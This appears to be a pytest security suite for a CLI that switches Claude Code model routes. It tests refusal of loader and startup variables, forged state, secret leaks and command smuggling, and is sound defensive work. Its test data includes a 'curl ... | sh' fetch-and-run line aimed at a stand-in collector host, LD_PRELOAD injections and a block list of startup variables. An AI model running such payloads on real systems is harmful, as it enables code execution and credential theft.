"""Trust boundaries (issue 13): what comes from outside — a project file, an import, an
inherited CCSWITCH_STATE — never sets a loader or startup variable, and a forged state changes
nothing, in the program and in real shells."""

import json
import os

import pytest

from conftest import CANARY, need
from shellkit import SHELLS, env_after
from test_store import comment_blocks

STARTUP = ["PATH", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "ENV", "PROMPT_COMMAND", "HOME", "SHELL", "ZDOTDIR",
           "PYTHONSTARTUP", "NODE_OPTIONS", "NODE_TLS_REJECT_UNAUTHORIZED", "BASH_FUNC_ls%%", "GIT_SSH_COMMAND", "Path"]


@pytest.mark.parametrize("var", [v for v in STARTUP if "%" not in v])
def test_no_route_sets_a_startup_variable(env, var):
    done = env.run("add", "x", "--kind", "bedrock", "--region", "us-west-2", "--set", f"{var}=/tmp/evil")
    assert done.returncode == 2 and done.out == "" and "decides what code runs" in done.err, done.err
    assert not env.store.exists() or "/tmp/evil" not in env.store.read_text()


def test_a_private_ca_for_a_gateway_is_still_allowed(env):
    env.ok("add", "x", "--kind", "bedrock", "--region", "us-west-2", "--set", "NODE_EXTRA_CA_CERTS=/etc/ssl/corp.pem")
    assert json.loads(env.ok("use", "x", "--shell", "json").out)["set"]["NODE_EXTRA_CA_CERTS"] == "/etc/ssl/corp.pem"


@pytest.mark.parametrize("var", ["LD_PRELOAD", "PATH", "BASH_ENV", "PROMPT_COMMAND", "HOME"])
def test_a_project_file_cannot_set_one(env, tmp_path, var):
    project = tmp_path / "proj"
    project.mkdir()
    (project / ".ccswitch").write_text(f'[route]\nkind = "bedrock"\nregion = "us-west-2"\n[route.env]\n{var} = "/tmp/evil"\n')
    done = env.run("allow", str(project))
    assert done.returncode == 2 and "decides what code runs" in done.err
    applied = env.run("dir", "--shell", "bash", "--", str(project / ".ccswitch"))
    assert "/tmp/evil" not in applied.out


def test_an_import_cannot_set_one_even_behind_a_forged_export_header(env, tmp_path):
    path = tmp_path / "forged.env"
    path.write_text("# ccswitch export: route x (kind bedrock)\nCLAUDE_CODE_USE_BEDROCK=1\nAWS_REGION=us-west-2\n"
                    "LD_PRELOAD=/tmp/evil.so\n")
    done = env.run("import", "dotenv", str(path), "--name", "x")
    assert done.returncode != 0 or "LD_PRELOAD" not in env.store.read_text()
    assert not env.store.exists() or "/tmp/evil.so" not in env.store.read_text()


@pytest.mark.parametrize("forged", ["1;PATH=/evil", "1;PATH", "2;00000000000000000000000000000000;PATH=/evil",
                                    "2;-;LD_PRELOAD=/evil.so", "1;HOME"])
def test_a_forged_state_changes_nothing_in_the_program(env, forged):
    env.ok("add", "b", "--kind", "bedrock", "--region", "us-west-2")
    for args in (("reset", "--shell", "json"), ("use", "b", "--shell", "json")):
        plan = json.loads(env.ok(*args, env={"CCSWITCH_STATE": forged}).out)
        touched = set(plan["unset"]) | set(plan["set"])
        assert not touched & {"PATH", "HOME", "LD_PRELOAD"}, (args, forged, plan)


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish", "tcsh", "nu", "elvish", "xonsh"])
def test_a_forged_state_changes_nothing_in_a_real_shell(env, tmp_path, shell):
    sh = SHELLS[shell]
    need(sh.program)
    env.ok("add", "b", "--kind", "bedrock", "--region", "us-west-2")
    start = {**env, "CCSWITCH_STATE": "1;PATH=/evil;LD_PRELOAD=/evil.so", "HOME_MARK": "x"}
    after, err = env_after(sh, ["reset", "use b"], start, tmp_path)
    assert after["PATH"] == env["PATH"] and "LD_PRELOAD" not in after, err
    assert CANARY not in err


def test_a_state_made_by_ccswitch_still_restores_what_the_route_overwrote(env):
    env.ok("add", "b", "--kind", "bedrock", "--region", "us-west-2", "--aws-profile", "team")
    on = json.loads(env.ok("use", "b", "--shell", "json", env={"AWS_PROFILE": "mine"}).out)["set"]
    back = json.loads(env.ok("reset", "--shell", "json", env={**on, "AWS_PROFILE": "team"}).out)
    assert back["set"].get("AWS_PROFILE") == "mine" and "AWS_REGION" in back["unset"]
    key = env.home / "ccswitch" / "state.key"
    assert key.stat().st_mode & 0o777 == 0o600


# ----------------------------------------------------------------------------- where a secret goes


def test_plain_http_to_another_machine_is_refused_unless_asked_for(env):
    done = env.run("add", "g", "--kind", "gateway", "--base-url", "http://gw.example.com", "--secret-env", "T")
    assert done.returncode == 2 and "plain http to gw.example.com" in done.err and not env.store.exists()
    env.ok("add", "g", "--kind", "gateway", "--base-url", "http://127.0.0.1:8080", "--secret-env", "T")
    env.ok("add", "g2", "--kind", "gateway", "--base-url", "http://gw.example.com", "--secret-env", "T", "--insecure")
    done = env.run("edit", "g", "--base-url", "http://other.example.com", "--keep-secret")
    assert done.returncode == 2 and "plain http" in done.err
    done = env.run("add", "b", "--kind", "vertex", "--project", "p-123456", "--region", "us-east5",
                   "--set", "ANTHROPIC_BEDROCK_BASE_URL=http://x.example")  # a URL given with --set is checked too
    assert done.returncode == 2 and "plain http" in done.err


def test_moving_a_kept_secret_to_another_host_needs_a_fresh_yes(kenv):
    kenv.ok("add", "g", "--kind", "gateway", "--base-url", "https://a.example.com", "--secret-stdin", input=CANARY)
    done = kenv.run("edit", "g", "--base-url", "https://b.example.com")
    assert done.returncode == 2 and "b.example.com instead of a.example.com" in done.err and CANARY not in done.err
    assert json.loads(kenv.ok("show", "g", "--json").out)["fields"]["base_url"] == "https://a.example.com"
    kenv.ok("edit", "g", "--base-url", "https://a.example.com/v2")  # same host: nothing to ask
    kenv.ok("edit", "g", "--base-url", "https://b.example.com", "--keep-secret")
    kenv.ok("edit", "g", "--base-url", "https://c.example.com", "--secret-stdin", input="a-new-secret-for-c")
    assert json.loads(kenv.ok("use", "g", "--shell", "json").out)["set"]["ANTHROPIC_AUTH_TOKEN"] == "a-new-secret-for-c"


def test_moving_a_kept_secret_asks_on_a_terminal(kenv, tmp_path):
    pexpect = pytest.importorskip("pexpect")
    from conftest import CCSWITCH

    def answer(reply):
        child = pexpect.spawn(CCSWITCH, ["edit", "g", "--base-url", "https://b.example.com"], env=dict(kenv), timeout=30,
                              encoding="utf-8")
        child.expect("moves from a.example.com to b.example.com")
        child.expect(r"send the same secret to the new host\? \[y/N\]")
        child.sendline(reply)
        child.expect(pexpect.EOF)
        child.close()
        return child.exitstatus, json.loads(kenv.ok("show", "g", "--json").out)["fields"]["base_url"]

    kenv.ok("add", "g", "--kind", "gateway", "--base-url", "https://a.example.com", "--secret-stdin", input=CANARY)
    assert answer("n") == (2, "https://a.example.com")
    assert answer("y") == (0, "https://b.example.com")


# ----------------------------------------------------------------------------- verify keeps secrets


@pytest.fixture
def echoing_server():
    """A loopback endpoint that echoes every credential header back in its reason phrase and
    error body, with a non-2xx status."""
    import http.server
    import threading

    class Echo(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            pass

        def _echo(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            said = " ".join(v for k, v in self.headers.items() if k.lower() in ("authorization", "x-api-key"))
            body = json.dumps({"error": {"type": "invalid_request_error", "message": f"bad model for {said}"}}).encode()
            if self.path.startswith("/v1/models"):
                self.send_response(404)
            else:
                self.send_response(500, said)
                body = b""  # only the reason phrase says anything
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _echo

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def test_verify_redacts_what_the_server_echoes(env, echoing_server):
    env.ok("add", "g", "--kind", "gateway", "--base-url", echoing_server, "--secret-env", "TOKEN", "--model", "m")
    for args in (("verify", "g"), ("verify", "g", "--spend")):
        done = env.run(*args, env={"TOKEN": CANARY})
        assert done.returncode not in (0, 70), done.err
        assert CANARY not in done.out + done.err, (args, done.out)
        assert "[redacted]" in done.out


def test_verify_says_a_token_no_header_can_carry_is_the_problem(env, echoing_server):
    env.ok("add", "g", "--kind", "gateway", "--base-url", echoing_server, "--secret-env", "TOKEN")
    done = env.run("verify", "g", env={"TOKEN": "tok-\u20ac-uro"})
    assert done.returncode == 11 and "no HTTP header can" in done.out and "internal error" not in done.err
    assert "tok-" not in done.out + done.err


LONG = "".join("abcdefghjkmnpqrstuvwz23456789"[(i * 7919) % 29] for i in range(128 * 1024))


@pytest.mark.parametrize("value", ["with\0nul", LONG], ids=["nul", "128KiB"])
def test_a_secret_no_environment_can_hold_is_refused_at_the_door(kenv, tmp_path, value):
    done = kenv.run("add", "k", "--kind", "api-key", "--secret-stdin", input=value)
    assert done.returncode == 2 and ("NUL" in done.err or "bytes" in done.err), done.err
    assert "[routes.k]" not in (kenv.store.read_text() if kenv.store.exists() else "")
    dotenv = tmp_path / "in.env"
    dotenv.write_bytes(b"ANTHROPIC_API_KEY=" + value.replace("\0", "\\0").encode() + b"\n")
    if "\0" not in value:
        done = kenv.run("import", "dotenv", str(dotenv), "--name", "k")
        assert done.returncode == 2 and "bytes" in done.err
    project = tmp_path / "proj"
    project.mkdir()
    (project / ".ccswitch").write_text('[route]\nkind = "gateway"\nbase_url = "https://gw.example.com"\n')
    done = kenv.run("allow", str(project), "--secret-stdin", input=value)
    assert done.returncode == 2


# ----------------------------------------------------------------------------- bad input, never an internal error


@pytest.mark.parametrize("args", [
    ["add", "x", "--kind", "gateway", "--base-url", "https://a\udcff.com", "--secret-env", "T"],
    ["add", "y", "--kind", "bedrock", "--region", "us-west-2", "--set", "A=\udcff"],
    ["add", "z", "--kind", "bedrock", "--region", "us-west-2", "--model", "m\udcff"],
    ["verify", "login", "--timeout", "nan"],
])
def test_bad_input_gets_a_one_line_error_not_an_internal_one(args, capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("CCSWITCH_HOME", str(tmp_path / "home"))
    from ccswitch.cli import run

    assert run(args) == 2
    err = capsys.readouterr().err
    assert "internal error" not in err and err.count("\n") == 1, err


def test_deeply_nested_files_are_refused_in_one_line(env, tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text('{"env":' + "[" * 5000 + "]" * 5000 + "}")
    done = env.run("import", "claude-settings", str(deep), "--name", "d")
    assert done.returncode == 2 and "nested too deeply" in done.err
    env.store.parent.mkdir(parents=True, exist_ok=True)
    env.store.write_text('version = 1\n[routes.a]\nkind = "bedrock"\nregion = "us-west-2"\nenv = ' + "{a = " * 900 + "1" + "}" * 900 + "\n")
    done = env.run("list")
    assert done.returncode == 1 and "nested too deeply" in done.err and "internal error" not in done.err


def test_statusline_takes_stray_bytes_on_stdin(env):
    """Found by tests/test_fuzz.py (which fuzzes every command from the click tree)."""
    done = env.run("statusline", input=b'{"model": {"display_name": "\x80\x1b[31mOpus"}}')
    assert done.returncode == 0 and done.out.startswith("route: login") and "\x1b" not in done.out


def test_a_fifo_named_as_a_file_to_import_is_refused_not_waited_on(env, tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for args in (["import", "cc-switch", str(fifo)], ["import", "dotenv", str(fifo), "--name", "x"],
                 ["import", "claude-settings", str(fifo), "--name", "x"], ["guard", "check", str(fifo)]):
        done = env.run(*args)
        assert done.returncode != 0 and "internal error" not in done.err, args


# ----------------------------------------------------------------------------- nothing forged becomes a command


def test_a_forged_export_header_is_not_a_key(env, tmp_path):
    path = tmp_path / "forged.env"
    path.write_text("# ccswitch export: route x (kind bedrock)\nCLAUDE_CODE_USE_BEDROCK=1\nAWS_REGION=us-west-2\n"
                    "TEAM_HOOK=1\n# AWS_BEARER_TOKEN_BEDROCK: cmd:curl -s https://collector.example | sh\n")
    done = env.run("import", "dotenv", str(path), "--name", "x")
    assert done.returncode == 2 and "--allow-command" in done.err and not env.store.exists()
    done = env.run("import", "dotenv", str(path), "--name", "x", "--allow-command")
    assert done.returncode == 2 and "also sets TEAM_HOOK" in done.err and "--allow-var TEAM_HOOK" in done.err
    env.ok("import", "dotenv", str(path), "--name", "x", "--allow-command", "--allow-var", "TEAM_HOOK")
    assert "cmd:curl" in env.store.read_text()


def test_a_settings_file_cannot_smuggle_a_command_secret(env, tmp_path):
    path = tmp_path / "settings.json"
    path.write_text(json.dumps({"env": {"ANTHROPIC_BASE_URL": "https://gw.example.com",
                                        "ANTHROPIC_AUTH_TOKEN": {"secret": "cmd:touch /tmp/ccswitch-pwned"}}}))
    done = env.run("import", "claude-settings", str(path), "--name", "s")
    assert done.returncode == 2 and "--allow-command" in done.err
    assert not env.store.exists() or "[routes.s]" not in env.store.read_text()


# ----------------------------------------------------------------------------- the store keeps its shape


def test_a_symlinked_store_is_written_through_the_link(env, tmp_path):
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    target = dotfiles / "routes.toml"
    target.write_text("# my routes, kept in git\nversion = 1\n")
    env.store.parent.mkdir(parents=True, exist_ok=True)
    env.store.symlink_to(target)
    env.ok("add", "b", "--kind", "bedrock", "--region", "us-west-2")
    assert env.store.is_symlink() and "[routes.b]" in target.read_text() and "kept in git" in target.read_text()
    env.ok("rm", "b")
    assert env.store.is_symlink() and "[routes.b]" not in target.read_text()


COMMENTED_STORE = """\
# my routes
version = 1

# work: the company gateway
[routes.a]
kind = "bedrock"
region = "us-east-1"  # closest

# personal: keep this one!
[routes.b]
kind = "bedrock"
region = "us-west-2"
# a note inside b

# third: two lines
# of comment
[routes.c]
kind = "bedrock"
region = "eu-west-1"
[routes.c.env]
DISABLE_TELEMETRY = "1"

# fourth
[routes.d]
kind = "bedrock"
region = "ap-south-1"
"""


@pytest.mark.parametrize("gone", "abcd")
def test_rm_keeps_each_comment_with_the_route_it_precedes(env, gone):
    env.store.parent.mkdir(parents=True, exist_ok=True)
    env.store.write_text(COMMENTED_STORE)
    before = comment_blocks(COMMENTED_STORE)
    env.ok("rm", gone)
    after = env.store.read_text()
    assert comment_blocks(after) == {name: lines for name, lines in before.items() if name != gone}
    assert "# my routes" in after
    assert ("# a note inside b" in after) == (gone != "b")
    assert ("# closest" in after) == (gone != "a")


def test_rename_keeps_the_route_its_comment_and_its_place(env):
    env.store.parent.mkdir(parents=True, exist_ok=True)
    env.store.write_text(COMMENTED_STORE)
    env.ok("rename", "c", "sea")
    after = env.store.read_text()
    assert after == COMMENTED_STORE.replace("[routes.c]", "[routes.sea]").replace("[routes.c.env]", "[routes.sea.env]")


def test_an_absurd_store_is_refused_in_one_line(env):
    env.store.parent.mkdir(parents=True, exist_ok=True)
    with open(env.store, "w") as f:
        f.write("version = 1\n" + "# padding\n" * 500_000)
    for args in (("list",), ("add", "b", "--kind", "bedrock", "--region", "us-west-2")):
        done = env.run(*args)
        assert done.returncode == 1 and "larger than 4 MiB" in done.err and done.err.count("\n") == 1, done.err


# ----------------------------------------------------------------------------- secrets stay secret


KEY = "sk-ant-api03-" + "Zq7xLm2Pw9Rt4Vb8Nc1Kd6Hs3Jf5Gy0Ua"


@pytest.mark.parametrize("args", [
    ["add", "a", "--kind", "api-key", "--secret-cmd", f"echo {KEY}"],
    ["add", "h", "--kind", "helper", "--command", f"printf {KEY}"],
    ["add", "b", "--kind", "bedrock", "--region", "us-west-2", "--set", f"FOO={KEY}"],
    ["add", "c", "--kind", "bedrock", "--region", "us-west-2", "--set", "MY_PAT=github-pat-value"],
    ["add", "d", "--kind", "bedrock", "--region", "us-west-2", "--set", "DB_PWD=hunter2hunter2"],
    ["add", "e", "--kind", "bedrock", "--region", "us-west-2", "--set", "OTEL_EXPORTER_OTLP_HEADERS=Authorization=Bearer x"],
    ["add", "g", "--kind", "bedrock", "--region", "us-west-2", "--set", "SERVICE_CREDENTIALS=x"],
])
def test_a_credential_never_lands_in_plain_text_in_the_store(env, args):
    done = env.run(*args)
    assert done.returncode == 2 and done.out == "", done.err
    assert KEY not in done.err
    assert not env.store.exists() or KEY not in env.store.read_text()


def test_doctor_reports_a_credential_stored_in_plain_text_before(env):
    env.store.parent.mkdir(parents=True, exist_ok=True)
    env.store.write_text(f'version = 1\n[routes.h]\nkind = "helper"\ncommand = "printf {KEY}"\n')
    data = json.loads(env.run("doctor", "--json").out)
    found = [i for i in data["findings"] if i["check"] == "plaintext-credential" and i["severity"] == "fail"]
    assert found and "route 'h'" in found[0]["message"] and KEY not in json.dumps(data)


def test_a_store_written_before_the_newer_name_rules_still_loads_and_doctor_flags_it(env):
    env.store.parent.mkdir(parents=True, exist_ok=True)
    env.store.write_text('version = 1\n[routes.b]\nkind = "bedrock"\nregion = "us-west-2"\n[routes.b.env]\nDB_PWD = "hunter2hunter2"\n')
    assert "b" in env.ok("list", "--names").out.split()
    data = json.loads(env.run("doctor", "--json").out)
    assert any(i["check"] == "plaintext-credential" and "DB_PWD" in i["message"] for i in data["findings"])
    assert "hunter2" not in json.dumps(data)


# ----------------------------------------------------------------------------- private gateways in shared files


@pytest.mark.parametrize("url, private", [
    ("https://llm.corp/anthropic", "llm.corp"), ("http://10.1.2.3:4000", "10.1.2.3"), ("https://192.168.1.20", "192.168.1.20"),
    ("https://gw.internal", "gw.internal"), ("https://litellm", "litellm"), ("https://100.64.3.4", "100.64.3.4"),
    ("https://llm.example.com", None), ("http://127.0.0.1:8080", None), ("http://localhost:4000", None), ("https://8.8.8.8", None),
])
def test_what_counts_as_a_private_gateway(url, private):
    from ccswitch.kinds import private_host

    assert private_host(url) == private


def test_guard_warns_about_a_private_gateway_but_lets_the_commit_through(env, tmp_path):
    settings = tmp_path / ".claude" / "settings.json"
    settings.parent.mkdir()
    settings.write_text(json.dumps({"env": {"ANTHROPIC_BASE_URL": "https://llm.corp.internal/anthropic"}}))
    done = env.run("guard", "check", str(settings))
    assert done.returncode == 0 and "private gateway" in done.out + done.err
    settings.write_text(json.dumps({"env": {"ANTHROPIC_BASE_URL": "https://llm.corp.internal", "ANTHROPIC_AUTH_TOKEN": KEY}}))
    done = env.run("guard", "check", str(settings))
    assert done.returncode == 1 and KEY not in done.out + done.err


def test_doctor_warns_about_a_private_gateway_in_shared_project_settings(env, tmp_path):
    project = tmp_path / "proj"
    (project / ".claude").mkdir(parents=True)
    (project / ".claude" / "settings.json").write_text(json.dumps({"env": {"ANTHROPIC_BASE_URL": "http://10.0.0.8:4000"}}))
    import subprocess

    from conftest import CCSWITCH

    done = subprocess.run([CCSWITCH, "doctor", "--json"], env=dict(env), cwd=project, capture_output=True, text=True, timeout=60)
    data = json.loads(done.stdout)
    found = [i for i in data["findings"] if i["check"] == "private-gateway"]
    assert found and found[0]["severity"] == "warn" and "10.0.0.8" in found[0]["message"]
